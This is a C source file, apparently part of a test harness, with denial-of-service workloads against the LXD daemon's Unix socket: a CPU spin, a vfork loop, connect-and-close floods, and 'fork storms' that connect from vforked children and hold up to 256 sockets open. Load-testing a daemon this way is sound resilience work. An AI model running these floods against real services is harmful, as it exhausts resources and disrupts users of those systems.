#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../client.h"
#include "attack.h"

/* Sockets that one worker of fork_storm_held keeps at a time. */
#define HELD_MAX 256
/* How long a connect waits in a full queue. */
#define PATIENCE_S 1

static const char REQUEST[] = "GET /1.0 HTTP/1.1\r\nHost: lxd\r\n\r\n";

void spin(struct worker *worker) {
  while (now_ns() < worker->end) worker->done++;
}

void forks(struct worker *worker) {
  while (now_ns() < worker->end) {
    pid_t pid = vfork();
    if (pid == 0) _exit(0);
    if (pid < 0) worker->failed++;
    else if (waitpid(pid, NULL, 0) == pid) worker->done++;
  }
}

static int try_connect(const char *path) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  struct timeval patience = {.tv_sec = PATIENCE_S};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
  if (connect(fd, (struct sockaddr *)&address, sizeof address) == 0) return fd;
  close(fd);
  return -1;
}

void connect_close(struct worker *worker) {
  while (now_ns() < worker->end) {
    int fd = try_connect(worker->path);
    if (fd < 0) {
      worker->failed++;
      usleep(1000);
      continue;
    }
    worker->done++;
    close(fd);
  }
}

/*
 * A process of its own connects a socket of ours, and is gone. vfork(2), because copying the memory of this one would
 * take longer than all the rest: the child makes system calls only.
 */
static int connect_from_child(int fd, const struct sockaddr_un *address) {
  pid_t pid = vfork();
  if (pid < 0) return -1;
  if (pid == 0) {
    int failed = connect(fd, (const struct sockaddr *)address, sizeof *address) < 0 ||
                 send(fd, REQUEST, sizeof REQUEST - 1, MSG_DONTWAIT | MSG_NOSIGNAL) < 0;
    _exit(failed);
  }
  int status = 1;
  while (waitpid(pid, &status, 0) < 0 && errno == EINTR);
  return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -1;
}

/* @param keep how many sockets stay open after their process */
static void storm(struct worker *worker, int keep) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  struct timeval patience = {.tv_sec = PATIENCE_S};
  int held[HELD_MAX];
  memset(held, -1, sizeof held);
  strncpy(address.sun_path, worker->path, sizeof address.sun_path - 1);
  for (int at = 0; now_ns() < worker->end; at = (at + 1) % keep) {
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) fail("socket");
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof patience);
    if (connect_from_child(fd, &address) == 0) worker->done++;
    else worker->failed++;
    if (held[at] >= 0) close(held[at]);
    held[at] = fd;
  }
}

void fork_storm(struct worker *worker) { storm(worker, 1); }

void fork_storm_held(struct worker *worker) { storm(worker, HELD_MAX); }
